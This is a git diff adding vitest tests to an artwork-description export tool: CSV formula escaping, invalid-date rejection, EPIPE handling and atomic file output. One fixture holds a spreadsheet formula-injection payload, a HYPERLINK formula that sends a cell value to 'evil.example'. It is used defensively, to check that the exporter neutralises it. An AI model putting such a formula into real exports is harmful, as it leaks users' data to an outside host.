@@ -1,8 +1,8 @@
-import { spawnSync } from "node:child_process";
-import { readFileSync } from "node:fs";
+import { spawn, spawnSync } from "node:child_process";
+import { readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { Writable } from "node:stream";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { loadConfig } from "../../src/config.js";
 import { closeDb } from "../../src/db.js";
 import { CSV_COLUMNS, type ExportOptions, type ExportRow, writeExport } from "../../src/export/export.js";
@@ -101,6 +101,18 @@ describe("export", () => {
     expect(lines.filter(Boolean)).toHaveLength(3);
   });
 
+  it("CSV: a text a spreadsheet would run as a formula gets a leading apostrophe; numbers stay numbers", async () => {
+    const dali = await makeCreator(t.db, { qid: "Q5577", labels: { en: "Formula Tester" } });
+    const a = await makeArtwork(t.db, { qid: "Q190", title: '=HYPERLINK("http://evil.example/?x="&A2,"click")', creators: [{ id: dali.id }] });
+    await addDescription(t.db, a.id, "-2+3 is how the model began.", "HUMAN");
+    const text = await exportText({ format: "csv", creators: ["Q5577"] });
+    const row = text.split("\r\n")[1]!;
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""click"")"`);
+    expect(row).toContain("'-2+3 is how the model began.");
+    expect(row).not.toMatch(/,=|,-2/);
+    await t.db.artwork.delete({ where: { id: a.id } });
+  });
+
   it("stops with the stream's error when the reader goes away (EPIPE)", async () => {
     const broken = new Writable({
       highWaterMark: 16,
@@ -133,6 +145,38 @@ describe("export", () => {
     const out = join(t.dir, "out.jsonl");
     expect(await exportCommand(t.db, config, { format: "jsonl", out, since: "2000-01-01" }, io)).toBe(0);
     expect(readFileSync(out, "utf8").trim().split("\n")).toHaveLength(3);
+    // An impossible calendar date is refused, not rolled over (2026-02-31 is not 2026-03-03).
+    for (const since of ["2026-02-31", "2026-13-01", "2026-01-01T25:00"]) {
+      expect(await exportCommand(t.db, config, { format: "jsonl", since }, io), since).toBe(2);
+    }
+  });
+
+  it("a command whose reader went away (artdesc status | true) ends quietly with 0, not with an EPIPE stack", async () => {
+    if (onPostgres) return;
+    const child = spawn(process.execPath, [ARTDESC_CLI, "status", "--json"], { env: { ...process.env, DATABASE_URL: t.url, LOG_LEVEL: "warn" }, stdio: ["ignore", "pipe", "pipe"] });
+    // The reader is gone before the command writes a byte.
+    child.stdout.destroy();
+    let stderr = "";
+    child.stderr.setEncoding("utf8").on("data", (c: string) => (stderr += c));
+    const code = await new Promise<number | null>((resolve) => child.on("close", resolve));
+    expect(stderr).not.toMatch(/EPIPE|Unhandled/);
+    expect(code).toBe(0);
+  });
+
+  it("--out: an export that fails leaves the previous file as it was, and no part of the new one", async () => {
+    const out = join(t.dir, "kept.jsonl");
+    const io = commandIo();
+    expect(await exportCommand(t.db, config, { format: "jsonl", out }, io)).toBe(0);
+    const before = readFileSync(out, "utf8");
+    expect(before.trim().split("\n")).toHaveLength(3);
+    const failing = vi.spyOn(t.db, "$queryRawUnsafe").mockRejectedValueOnce(new Error("disk I/O error"));
+    try {
+      await expect(exportCommand(t.db, config, { format: "jsonl", out }, io)).rejects.toThrow("disk I/O error");
+    } finally {
+      failing.mockRestore();
+    }
+    expect(readFileSync(out, "utf8")).toBe(before);
+    expect(readdirSync(t.dir).filter((f) => f.startsWith("kept.jsonl"))).toEqual(["kept.jsonl"]);
   });
 
   it("Artwork.altText shortens the current description at a sentence boundary", async () => {
